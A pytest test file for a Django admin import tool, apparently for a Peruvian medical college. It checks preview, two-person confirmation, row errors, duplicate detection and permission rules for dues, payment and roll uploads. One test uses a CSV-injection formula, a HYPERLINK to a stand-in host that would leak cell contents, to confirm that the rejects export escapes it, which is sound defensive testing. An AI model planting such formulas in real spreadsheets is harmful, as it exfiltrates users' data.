"""Staff load the college's files in the admin: they see what would happen before anything does."""

from datetime import timedelta
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.http import HttpResponse
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook

from dues import tasks
from dues.imports import drafts
from dues.models import DataLoad, Due, ImportDraft, Settlement
from members.models import Assignment, Member, User
from tests.builders import a_member, client_of

UPLOAD = "/admin/dues/dataload/cargar/"
HEADER = "cmp;tipo;mes;monto;vence;base_legal"
MARCH = "12345;colegiado;03/2025;30.00;31/03/2025;Acuerdo de muestra"


@pytest.fixture
def rosa(db: None) -> Member:
    return a_member(cmp_number=12_345)


def upload(browser: Client, *lines: str, **fields: Any) -> HttpResponse:
    file = SimpleUploadedFile("cuotas.csv", "\n".join([HEADER, *lines]).encode())
    return browser.post(UPLOAD, {"content": "dues", "file": file} | fields, follow=True)


def test_a_file_is_shown_first_and_loaded_when_another_person_confirms(
    rosa: Member, teresa: User, ursula: User
) -> None:
    browser = client_of(teresa)
    shown = upload(browser, MARCH)

    assert "Todavía no se guardó nada." in shown.content.decode()
    assert not Due.objects.exists()
    draft = ImportDraft.objects.get()
    assert "Espera a otra persona" in shown.content.decode()
    alone = browser.post(f"{UPLOAD}{draft.pk}/confirmar/", follow=True)
    assert "debe confirmarlo otra persona" in alone.content.decode()
    assert not Due.objects.exists()
    done = client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/", follow=True)
    assert "Se cargó cuotas.csv. Filas nuevas: 1; modificadas: 0." in done.content.decode()
    record = DataLoad.objects.get()
    assert (record.file_name, record.author, record.approver, record.added) == ("cuotas.csv", teresa, ursula, 1)
    assert not ImportDraft.objects.exists()


def test_a_workbook_too(rosa: Member, teresa: User) -> None:
    book = Workbook()
    for row in (HEADER.split(";"), ["012345", "Colegiado", "03/2025", 30, "31/03/2025", "Acuerdo de muestra"]):
        book.active.append(row)
    content = BytesIO()
    book.save(content)
    file = SimpleUploadedFile("cuotas.xlsx", content.getvalue())

    client_of(teresa).post(UPLOAD, {"content": "dues", "file": file})

    outcome = ImportDraft.objects.get().outcome
    assert outcome.get("added") == 1, outcome


def test_every_bad_row_is_shown_and_can_be_downloaded_and_left_out(rosa: Member, teresa: User, ursula: User) -> None:
    browser = client_of(teresa)
    shown = upload(browser, MARCH, MARCH.replace("30.00", "treinta")).content.decode()
    draft = ImportDraft.objects.get()

    assert "«treinta» no es un monto" in shown
    refused = client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/", follow=True).content.decode()
    assert "No se guardó nada: hay filas con errores." in refused
    bad_rows = browser.get(f"{UPLOAD}{draft.pk}/rechazos.csv").getvalue().decode("utf-8-sig").splitlines()
    assert bad_rows[0] == f"{HEADER};rechazo"
    assert len(bad_rows) == 2
    client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/", {"leave_out": "on"})
    assert Due.objects.count() == 1


def test_bad_rows_are_counted_once_however_many_mistakes_each_has(rosa: Member, teresa: User) -> None:
    bad = MARCH.replace("30.00", "treinta").replace("colegiado", "otra")
    shown = upload(client_of(teresa), MARCH, bad).content.decode()
    assert shown.count("<td>3</td>") == 2
    assert '<tr><th scope="row">Filas con errores</th><td>1</td></tr>' in shown


def test_where_no_row_is_good_nothing_is_offered_to_load(rosa: Member, teresa: User) -> None:
    shown = upload(client_of(teresa), MARCH.replace("30.00", "treinta")).content.decode()
    assert "No hay ninguna fila que se pueda cargar." in shown
    assert "/confirmar/" not in shown
    assert "/cancelar/" in shown


def test_an_empty_file_is_refused_in_the_words_of_peru(teresa: User) -> None:
    answer = client_of(teresa).post(UPLOAD, {"content": "dues", "file": SimpleUploadedFile("cuotas.csv", b"")})
    assert "El archivo está vacío." in answer.content.decode()


@pytest.mark.parametrize("content", [b"%PDF-1.7", b"PK\x03\x04 x", f"{HEADER}\n{'x' * 200_000}".encode()])
def test_a_file_that_cannot_be_read_has_no_rows_to_download(teresa: User, content: bytes) -> None:
    browser = client_of(teresa)
    file = SimpleUploadedFile("cuotas.csv", content)
    page = browser.post(UPLOAD, {"content": "dues", "file": file}, follow=True).content.decode()
    assert "El archivo no se puede cargar" in page
    assert "Descargar las filas" not in page
    assert browser.get(f"{UPLOAD}{ImportDraft.objects.get().pk}/rechazos.csv").status_code == 404


def test_what_a_bank_wrote_is_no_formula_in_the_file_of_rejects(rosa: Member, teresa: User) -> None:
    browser = client_of(teresa)
    upload(browser, '=HYPERLINK("http://malo.example/?"&A1);colegiado;03/2025;-30.00;31/03/2025;@SUM(A1)')
    draft = ImportDraft.objects.get()
    rejected = browser.get(f"{UPLOAD}{draft.pk}/rechazos.csv").getvalue().decode("utf-8-sig").splitlines()
    assert rejected[1].startswith('"=""=HYPERLINK(')
    assert ';-30.00;31/03/2025;"=""@SUM(A1)""";' in rejected[1]


def test_a_total_that_differs_is_confirmed_by_a_tick(rosa: Member, teresa: User, ursula: User) -> None:
    browser = client_of(teresa)
    shown = upload(browser, MARCH, control_total="31.00").content.decode()
    draft = ImportDraft.objects.get()

    assert "hay S/ 1.00 de diferencia" in shown
    assert "hay avisos" in client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/", follow=True).content.decode()
    client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/", {"despite_warnings": "on"})
    assert Due.objects.count() == 1


def test_a_file_loaded_before_is_said_to_be(rosa: Member, teresa: User, ursula: User) -> None:
    browser = client_of(teresa)
    upload(browser, MARCH)
    client_of(ursula).post(f"{UPLOAD}{ImportDraft.objects.get().pk}/confirmar/")

    shown = upload(browser, MARCH).content.decode()

    assert "Este mismo archivo ya se cargó el" in shown
    again = client_of(ursula).post(f"{UPLOAD}{ImportDraft.objects.get().pk}/confirmar/", follow=True).content.decode()
    assert "este archivo ya se había cargado" in again
    assert DataLoad.objects.count() == 1


def test_a_file_that_is_no_table_is_refused_in_words(rosa: Member, teresa: User) -> None:
    shown = upload(client_of(teresa), content="roll").content.decode()

    assert "El archivo no se puede cargar." in shown
    assert "falta la columna" in shown
    assert "Cargar</h1>" not in shown


def test_it_can_be_cancelled(rosa: Member, teresa: User) -> None:
    browser = client_of(teresa)
    upload(browser, MARCH)

    browser.post(f"{UPLOAD}{ImportDraft.objects.get().pk}/cancelar/")

    assert not ImportDraft.objects.exists()
    assert not Due.objects.exists()


def test_a_draft_is_the_treasurys_for_a_day(rosa: Member, teresa: User, ursula: User, walter: User, ana: User) -> None:
    upload(client_of(teresa), MARCH)
    draft = ImportDraft.objects.get()
    page = f"{UPLOAD}{draft.pk}/"

    assert client_of(walter).get(page).status_code == 403
    assert client_of(walter).get(UPLOAD).status_code == 403
    assert client_of(ana).get(UPLOAD).status_code == 302
    assert client_of(ursula).get(page).status_code == 200
    ImportDraft.objects.update(made_at=timezone.now() - timedelta(hours=25))
    assert "súbalo otra vez" in client_of(ursula).get(page, follow=True).content.decode()
    assert drafts.forget_old() == 1


PAID = "cmp;tipo;mes;monto;canal;referencia;fecha_pago\n{};colegiado;{:%m/%Y};30.00;saldo inicial;SI-1;25/07/2020"


def opening_balance(due: Due) -> SimpleUploadedFile:
    return SimpleUploadedFile("saldo.csv", PAID.format(due.member.cmp_number, due.period).encode())


def test_a_treasurer_loads_no_opening_balance_of_her_own_by_herself_or_with_a_friend(
    ana: User, teresa: User, ursula: User
) -> None:
    due = Due.objects.filter(member__cmp_number=45_678, kind="colegiado").earliest("period")
    Assignment.objects.filter(user=ana).update(ended_at=timezone.now(), ended_by=ana, end_reason="Pasó a tesorería")
    Assignment.objects.create(user=teresa, member=due.member)
    by_herself = client_of(teresa).post(UPLOAD, {"content": "payments", "file": opening_balance(due)})
    assert "su propio CMP" in by_herself.content.decode()
    client_of(ursula).post(UPLOAD, {"content": "payments", "file": opening_balance(due)})
    page = f"{UPLOAD}{ImportDraft.objects.get().pk}/confirmar/"
    assert "su propio CMP" in client_of(teresa).post(page, follow=True).content.decode()

    assert not Settlement.objects.filter(due=due).exists()


def test_the_database_takes_no_load_of_one_person(teresa: User) -> None:
    for approver in (None, teresa):
        with pytest.raises(IntegrityError, match="a_second_person_confirms_a_load"), transaction.atomic():
            DataLoad.objects.create(
                content="roll", file_name="x.csv", rows=1, added=1, changed=0, author=teresa, approver=approver
            )


def test_a_file_too_large_for_a_page_is_sent_to_the_command_line(
    rosa: Member, teresa: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(drafts, "LARGEST_UPLOAD", 10)

    assert "manage.py import_" in upload(client_of(teresa), MARCH).content.decode()
    assert not ImportDraft.objects.exists()


@pytest.mark.parametrize(("total", "shown"), [(Decimal("1234567.50"), "1,234,567.50"), (None, "—")])
def test_the_sum_of_a_load_is_read_at_a_glance(total: Decimal | None, shown: str, teresa: User) -> None:
    DataLoad.objects.create(
        content="dues",
        file_name="cuotas.csv",
        sha256="0" * 64,
        rows=1,
        added=1,
        changed=0,
        rejected=0,
        total=total,
    )
    page = client_of(teresa).get("/admin/dues/dataload/").content.decode()

    assert f'<td class="field-total nowrap">{shown}</td>' in page or f'<td class="field-total">{shown}</td>' in page


def test_a_large_file_is_tried_and_loaded_by_the_worker(
    rosa: Member,
    teresa: User,
    ursula: User,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    """The browser may be closed meanwhile: the page of each step is found again in the list."""
    monkeypatch.setattr(drafts, "LARGEST_AT_ONCE", 10)
    browser = client_of(teresa)

    with django_capture_on_commit_callbacks(execute=True):
        shown = upload(browser, MARCH).content.decode()
    draft = ImportDraft.objects.get()
    assert "Puede cerrar esta página" in shown
    assert "cuotas.csv" in browser.get(f"{UPLOAD}en-curso/").content.decode()
    tasks.try_draft(draft.pk)
    assert "Primeras filas, como se entendieron" in browser.get(f"{UPLOAD}{draft.pk}/").content.decode()
    client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/")
    assert not Due.objects.exists()
    tasks.load_draft(draft.pk, ursula.pk, {"again": False, "despite_warnings": False, "leave_out_bad_rows": False})

    done = browser.get(f"{UPLOAD}{draft.pk}/", follow=True).content.decode()

    assert "Se cargó cuotas.csv" in done
    assert Due.objects.count() == 1


def test_a_large_file_that_is_refused_says_why_on_its_page(
    rosa: Member, teresa: User, ursula: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(drafts, "LARGEST_AT_ONCE", 10)
    browser = client_of(teresa)
    upload(browser, MARCH, MARCH.replace("30.00", "treinta"))
    draft = ImportDraft.objects.get()
    tasks.try_draft(draft.pk)
    client_of(ursula).post(f"{UPLOAD}{draft.pk}/confirmar/")

    tasks.load_draft(draft.pk, ursula.pk, {"again": False, "despite_warnings": False, "leave_out_bad_rows": False})

    assert "No se guardó nada: hay filas con errores." in browser.get(f"{UPLOAD}{draft.pk}/").content.decode()


def test_a_preview_of_a_roll_shows_who_changes(rosa: Member, teresa: User) -> None:
    header = "cmp;apellidos;nombres;tipo_documento;numero_documento;consejo;sede;fecha_colegiacion;estado"
    council = rosa.regional_council
    row = f"12345;Otra;Rosa;DNI;{rosa.document_number};{council.roman};{council.name};15/03/2010;activo"
    file = SimpleUploadedFile("padron.csv", f"{header}\n{row}\n".encode())

    page = client_of(teresa).post(UPLOAD, {"content": "roll", "file": file}, follow=True).content.decode()

    assert "<td>12345</td><td>Núñez Peña Rosa</td><td>Otra Rosa</td>" in page
